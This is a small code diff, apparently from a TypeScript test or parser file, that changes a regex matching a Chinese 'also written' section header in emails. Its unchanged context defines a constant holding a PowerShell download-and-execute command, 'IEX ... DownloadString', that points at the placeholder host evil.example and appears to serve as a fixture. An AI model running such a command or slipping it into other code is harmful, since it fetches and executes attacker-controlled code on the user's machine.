@@ -37,7 +37,7 @@ const LINE =
 const MORE = /^ {2}(?:and|另有) (\d+) /;
 
 const also = (email: string): string =>
-  /^(?:ALSO WRITTEN|【另有写入)[\s\S]*?(?=\n\n)/m.exec(email)?.[0] ?? '';
+  /^(?:ALSO WRITTEN|【其他写入)[\s\S]*?(?=\n\n)/m.exec(email)?.[0] ?? '';
 
 /** `IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')` */
 const SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')";
